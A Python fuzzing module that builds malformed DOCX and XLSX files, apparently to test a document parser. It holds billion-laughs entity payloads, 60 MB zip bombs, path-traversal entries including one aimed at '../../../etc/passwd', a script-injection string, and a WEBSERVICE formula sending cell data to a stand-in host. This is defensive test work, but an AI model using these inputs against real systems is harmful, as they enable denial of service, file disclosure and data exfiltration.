"""Word documents and workbooks made by hand, each with the trap in its name."""

import io
import zipfile
from collections.abc import Callable

from fuzz.seeds import DOCUMENTS

_MOST = "9" * 5000
_BODY, _STYLES = "word/document.xml", "word/styles.xml"
_SHEET, _STRINGS, _BOOK = "xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml"
_RELATED, _TYPES = "xl/_rels/workbook.xml.rels", "[Content_Types].xml"


def rewritten(kind: str, changes: dict[str, Callable[[bytes], bytes]]) -> bytes:
    """Give the sample document with some parts changed; one made empty is left out."""
    with zipfile.ZipFile(DOCUMENTS / f"xining-2020.{kind}") as source:
        parts = [(info.filename, source.read(info)) for info in source.infolist()]
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as target:
        for name, content in parts:
            change = changes.get(name)
            made = content if change is None else change(content)
            if made:
                target.writestr(zipfile.ZipInfo(name), made, zipfile.ZIP_DEFLATED)
    return stream.getvalue()


def _swap(old: str, new: str, times: int = -1) -> Callable[[bytes], bytes]:
    def change(content: bytes) -> bytes:
        found = content.replace(old.encode(), new.encode("utf-8", "surrogatepass"), times)
        if found == content:
            raise LookupError(old)
        return found

    return change


def _docx(old: str, new: str, times: int = -1) -> Callable[[], bytes]:
    return lambda: rewritten("docx", {_BODY: _swap(old, new, times)})


def _sheet(old: str, new: str, times: int = 1) -> Callable[[], bytes]:
    return lambda: rewritten("xlsx", {_SHEET: _swap(old, new, times)})


def _part(kind: str, part: str, content: bytes) -> Callable[[], bytes]:
    return lambda: rewritten(kind, {part: lambda _: content})


def _spans(kind: str) -> Callable[[], bytes]:
    """Give the Word document with this in place of every width of a cell."""
    width = f'<w:gridSpan w:val="{kind}"/>'
    return _docx("<w:tcPr>", f"<w:tcPr>{width}", -1)


def _number(text: str, kind: str = "n") -> Callable[[], bytes]:
    cell = f'<c r="A900" t="{kind}"><v>{text}</v></c>'
    return _sheet("<sheetData>", f'<sheetData><row r="900">{cell}</row>')


def _renamed(data: bytes) -> bytes:
    """Put the first sheet where sheets do not usually lie."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as source, zipfile.ZipFile(stream, "w") as target:
        for info in source.infolist():
            content = source.read(info).replace(b"worksheets/sheet1.xml", b"other.bin")
            target.writestr(info.filename.replace("worksheets/sheet1.xml", "other.bin"), content)
    return stream.getvalue()


def _entities(kind: str, part: str) -> Callable[[], bytes]:
    """Declare a billion laughs in a part."""
    laughs = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 9}">' for n in range(1, 10))
    declared = f'<!DOCTYPE x [<!ENTITY a0 "ha">{laughs}]>'.encode()

    def change(content: bytes) -> bytes:
        at = content.index(b"?>") + 2 if content.startswith(b"<?") else 0
        return content[:at] + declared + content[at:]

    return lambda: rewritten(kind, {part: change})


def zipped(
    name: str, content: bytes, method: int = zipfile.ZIP_DEFLATED, times: int = 1
) -> Callable[[], bytes]:
    """Put one content into a zip file, once or several times."""

    def made() -> bytes:
        stream = io.BytesIO()
        with zipfile.ZipFile(stream, "w", method) as target:
            for number in range(times):
                target.writestr(name.format(number), content)
        return stream.getvalue()

    return made


def _method(kind: str, number: int) -> Callable[[], bytes]:
    """Say that parts are packed in another way than they are."""

    def made() -> bytes:
        data = bytearray((DOCUMENTS / f"xining-2020.{kind}").read_bytes())
        for mark, at in ((b"PK\x03\x04", 8), (b"PK\x01\x02", 10)):
            found = data.find(mark)
            while found >= 0:
                data[found + at : found + at + 2] = number.to_bytes(2, "little")
                found = data.find(mark, found + 4)
        return bytes(data)

    return made


DOCX: dict[str, Callable[[], bytes]] = {
    **{f"width-{name}.docx": _spans(text) for name, text in {
        "squared": "²", "circled": "①", "arabic": "٣", "huge": _MOST, "negative": "-5", "empty": "", "words": "two",
        "a-thousand": "1000",
    }.items()},
    "skip-squared.docx": _docx("<w:tr>", '<w:tr><w:trPr><w:gridBefore w:val="²"/></w:trPr>'),
    "skip-huge.docx": _docx("<w:tr>", f'<w:tr><w:trPr><w:gridBefore w:val="{_MOST}"/></w:trPr>'),
    "merged-without-a-start.docx": _docx("<w:tcPr>", "<w:tcPr><w:vMerge/>"),
    "merged-anew-each-time.docx": _docx("<w:tcPr>", '<w:tcPr><w:vMerge w:val="restart"/>'),
    "controls-in-controls.docx": _docx(
        "<w:body>", "<w:body>" + "<w:sdt><w:sdtContent>" * 250 + "</w:sdtContent></w:sdt>" * 250
    ),
    "links-in-links.docx": _docx(
        "<w:body>", "<w:body><w:p>" + "<w:hyperlink>" * 240 + "<w:r><w:t>表</w:t></w:r>" + "</w:hyperlink>" * 240 + "</w:p>"
    ),
    "deeper-than-a-parser-goes.docx": _docx("<w:body>", "<w:body>" + "<w:ins>" * 3000 + "</w:ins>" * 3000),
    "boxes-in-boxes.docx": _docx(
        "<w:body>", "<w:body><w:p>" + "<w:txbxContent><w:p>" * 100 + "</w:p></w:txbxContent>" * 100 + "</w:p>"
    ),
    "tables-in-tables.docx": _docx(
        "<w:body>", "<w:body>" + "<w:tbl><w:tr><w:tc>" * 59 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 59
    ),
    "a-body-without-a-body.docx": _docx("w:body", "w:torso"),
    "another-namespace.docx": _docx("http://schemas.openxmlformats.org/wordprocessingml", "urn:x"),
    "no-namespace.docx": _part("docx", _BODY, b"<document><body/></document>"),
    "nothing-inside.docx": _part("docx", _BODY, b"<?xml version='1.0'?>"),
    "no-document.docx": _part("docx", _BODY, b""),
    "relations-missing.docx": _part("docx", "_rels/.rels", b""),
    "relations-damaged.docx": _part("docx", "word/_rels/document.xml.rels", b"<Relationships><Relationship Id='a' Target='../../../x'/>"),
    "relations-in-a-circle.docx": lambda: rewritten(
        "docx", {"_rels/.rels": lambda c: c.replace(b"word/document.xml", b"_rels/.rels")}
    ),
    "types-missing.docx": _part("docx", _TYPES, b""),
    "a-script-in-a-name.docx": _docx("<w:t>", "<w:t>&lt;script&gt;alert(1)&lt;/script&gt;"),
    "numbered-control-characters.docx": _docx("<w:t>", "<w:t>&#9;&#xD;&#x202E;&#x85;&#xFEFF;"),
    "forbidden-characters.docx": _docx("<w:t>", "<w:t>&#0;&#x1b;&#xD800;"),
    "in-utf-16.docx": lambda: rewritten(
        "docx", {_BODY: lambda c: c.decode().replace("UTF-8", "UTF-16").encode("utf-16")}
    ),
    "in-a-made-up-encoding.docx": lambda: rewritten("docx", {_BODY: lambda c: c.replace(b"UTF-8", b"UTF-99")}),
    "laughs.docx": _entities("docx", _BODY),
    "laughs-in-styles.docx": _entities("docx", _STYLES),
    "much-of-nothing.docx": zipped("word/document.xml", b" " * 60_000_000),
    "packed-as-lzma.docx": _method("docx", 14),
    "packed-as-bzip2.docx": _method("docx", 12),
    "packed-as-nobody-knows.docx": _method("docx", 99),
    "really-packed-as-lzma.docx": zipped("word/document.xml", b"<a/>" * 99, zipfile.ZIP_LZMA),
    "one-name-twice.docx": lambda: zipped("word/{:08}.xml", b"<a/>", times=2)().replace(b"00000000", b"document").replace(b"00000001", b"document"),
    "thousands-of-parts.docx": zipped("word/document{}.xml", b"<a/>", times=6000),
    "names-that-climb.docx": zipped("../../../word/document.xml", b"<a/>"),
}  # fmt: skip

XLSX: dict[str, Callable[[], bytes]] = {
    "string-not-there.xlsx": _number("99999", "s"),
    "string-below-nothing.xlsx": _number("-5", "s"),
    "string-of-no-number.xlsx": _number("abc", "s"),
    "no-strings.xlsx": _part("xlsx", _STRINGS, b""),
    "damaged-strings.xlsx": _part("xlsx", _STRINGS, b"<sst count='9999999'><si><t>a"),
    "empty-strings.xlsx": _part("xlsx", _STRINGS, b"<sst/>"),
    **{f"number-{name}.xlsx": _number(text) for name, text in {
        "beyond-doubles": "1e999", "large": "1e300", "small": "-1e-300", "nan": "nan", "infinite": "-inf", "words": "two",
        "of-many-digits": _MOST, "underscored": "1_0", "empty": "", "hexadecimal": "0x10",
    }.items()},
    "date-beyond-calendars.xlsx": _number("9999-99-99T00:00:00", "d"),
    "date-of-a-huge-number.xlsx": lambda: rewritten(
        "xlsx", {
            _SHEET: _swap("<sheetData>", '<sheetData><row r="900"><c r="A900" s="1"><v>1e15</v></c></row>', 1),
            "xl/styles.xml": lambda c: c.replace(b'numFmtId="0"', b'numFmtId="14"'),
        },
    ),
    "boolean-of-words.xlsx": _number("maybe", "b"),
    "error-value.xlsx": _number("#REF!", "e"),
    "type-nobody-knows.xlsx": _number("1", "zz"),
    "formula-that-calls.xlsx": _sheet(
        "<sheetData>", "<sheetData><row r='900'><c r='A900'><f>WEBSERVICE(\"http://x/\"&amp;A1)</f></c></row>"
    ),
    "formula-shared-with-itself.xlsx": _sheet(
        "<sheetData>", "<sheetData><row r='900'><c r='A900'><f t='shared' si='0' ref='A900:A900'/><v>1</v></c><c r='B900'><f t='shared' si='7'/></c></row>"
    ),
    "formula-of-an-array.xlsx": _sheet(
        "<sheetData>", "<sheetData><row r='900'><c r='A900'><f t='array' ref='A900:XFD999999'>1</f></c></row>"
    ),
    "dimension-wrong.xlsx": _sheet("<sheetData>", "<dimension ref='A1:XFD1048576'/><sheetData>"),
    "dimension-nonsense.xlsx": _sheet("<sheetData>", "<dimension ref='!!'/><sheetData>"),
    "cell-outside-of-sheets.xlsx": _sheet("<sheetData>", "<sheetData><row r='1'><c r='ZZZZ99999999'><v>1</v></c></row>"),
    "cell-without-place.xlsx": _sheet("<sheetData>", "<sheetData><row><c><v>1</v></c></row>"),
    "row-of-no-number.xlsx": _sheet("<sheetData>", "<sheetData><row r='x'><c r='A1'><v>1</v></c></row>"),
    "row-below-nothing.xlsx": _sheet("<sheetData>", "<sheetData><row r='-5'><c r='A-5'><v>1</v></c></row>"),
    "row-at-the-far-end.xlsx": _sheet("<sheetData>", "<sheetData><row r='1048576'><c r='XFD1048576'><v>1</v></c></row>"),
    **{f"merged-{name}.xlsx": _sheet("<mergeCell ", f"<mergeCell ref={text}/><mergeCell ")
       for name, text in {
           "everywhere": '"A1:XFD1048576"', "everywhere-single-quoted": "'A1:XFD1048576'", "from-end-to-start": '"Z99:A1"',
           "fixed": '"$A$1:$XFD$1048576"', "whole-columns": '"A:XFD"', "nonsense": '"?"', "one-cell": '"A1"',
           "small-letters": '"a1:xfd1048576"', "many-rows": '"A1:A350000"', "blank": '""',
           "spaced": '"A1:XFD1048576 B2:C3"', "escaped": '"A1:&#88;FD1048576"', "written-oddly": '\n"A1:XFD1048576"',
       }.items()},
    "hyperlink-over-all.xlsx": _sheet("</sheetData>", '</sheetData><hyperlinks><hyperlink ref="A1:XFD1048576" location="a"/></hyperlinks>'),
    "merged-everywhere-in-utf-16.xlsx": lambda: rewritten(
        "xlsx", {_SHEET: lambda c: _swap("<mergeCell ", '<mergeCell ref="A1:XFD1048576"/><mergeCell ')(c).decode().encode("utf-16")}
    ),
    "merged-everywhere-elsewhere.xlsx": lambda: _renamed(_sheet("<mergeCell ", '<mergeCell ref="A1:XFD1048576"/><mergeCell ')()),
    "sheet-not-there.xlsx": _part("xlsx", _SHEET, b""),
    "sheet-of-another-kind.xlsx": _part("xlsx", _SHEET, b"<worksheet xmlns='urn:x'/>"),
    "sheet-from-outside.xlsx": lambda: rewritten(
        "xlsx", {_RELATED: _swap("worksheets/sheet1.xml", "../../../etc/passwd")}
    ),
    "sheet-that-is-its-workbook.xlsx": lambda: rewritten(
        "xlsx", {_RELATED: _swap("worksheets/sheet1.xml", "workbook.xml")}
    ),
    "no-workbook.xlsx": _part("xlsx", _BOOK, b""),
    "no-styles.xlsx": _part("xlsx", "xl/styles.xml", b""),
    "styles-that-are-not-there.xlsx": lambda: rewritten("xlsx", {_SHEET: _swap(' s="', ' s="9999')}),
    "odd-formats.xlsx": lambda: rewritten(
        "xlsx", {"xl/styles.xml": _swap("<fonts", f'<numFmts><numFmt numFmtId="0" formatCode="[&gt;9]0.{"0" * 40}%;人"/></numFmts><fonts', 1)}
    ),
    "laughs.xlsx": _entities("xlsx", _SHEET),
    "laughs-in-strings.xlsx": _entities("xlsx", _STRINGS),
    "laughs-in-styles.xlsx": _entities("xlsx", "xl/styles.xml"),
    "laughs-in-the-workbook.xlsx": _entities("xlsx", _BOOK),
    "laughs-in-types.xlsx": _entities("xlsx", _TYPES),
    "deep.xlsx": _sheet("<sheetData>", "<x>" * 3000 + "</x>" * 3000 + "<sheetData>"),
    "much-of-nothing.xlsx": zipped("xl/workbook.xml", b" " * 60_000_000),
    "packed-as-lzma.xlsx": _method("xlsx", 14),
    "packed-as-bzip2.xlsx": _method("xlsx", 12),
    "thousands-of-sheets.xlsx": zipped("xl/worksheets/sheet{}.xml", b"<a/>", times=4000),
}  # fmt: skip
